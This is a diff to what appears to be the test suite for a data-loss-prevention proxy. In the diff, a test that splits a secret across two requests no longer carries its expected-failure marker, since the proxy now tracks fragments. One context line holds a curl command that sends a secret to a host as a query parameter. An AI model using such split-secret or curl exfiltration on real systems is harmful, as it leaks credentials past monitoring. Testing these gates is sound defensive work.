@@ -370,11 +370,8 @@ class Exfiltration(_Family):
                    "curl -sS -m 8 \"http://allowed.example/@@M@@?v=$u\"",
                    self.arena.prompt_secret)
 
-    # KNOWN HOLE (README's escape table, docs/security.md): DLP judges each request alone, so
-    # halves of a secret sent in two requests both pass. Marked so the rest of the gate can
-    # land; the day the proxy remembers fragments across requests, this becomes an
-    # unexpected success, which fails the run until the marker is removed.
-    @unittest.expectedFailure
+    # The proxy remembers which pieces of each secret have left (dlp/fragments.py): the request
+    # that would complete one is refused.
     def test_secret_split_across_requests(self) -> None:
         secret = self.arena.host_secret
         half = -(-len(secret) // 2)
